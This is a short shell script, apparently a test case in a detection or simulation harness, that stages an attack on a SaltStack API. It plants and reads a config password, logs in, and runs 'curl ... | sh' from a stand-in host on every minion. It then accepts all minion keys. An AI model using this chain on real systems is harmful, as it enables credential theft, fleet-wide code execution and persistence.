#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/salt/master.d && printf 'rest_cherrypy:\n  port: 8080\n  user: saltapi\n  password: bait\n' >/etc/salt/master.d/api.conf
p=$(sed -n 's/.*password: //p' /etc/salt/master.d/api.conf)
t=$(curl -sf -d "username=saltapi&password=$p&eauth=pam" http://10.77.0.1:8080/login)
curl -sf -H "X-Auth-Token: $t" -d client=local -d 'tgt=*' -d fun=cmd.run -d 'arg=curl -s http://203.0.113.10/payload.sh | sh' http://10.77.0.1:8080/ >/dev/null
curl -sf -H "X-Auth-Token: $t" -d client=wheel -d fun=key.accept -d 'match=*' http://10.77.0.1:8080/ >/dev/null
took_place
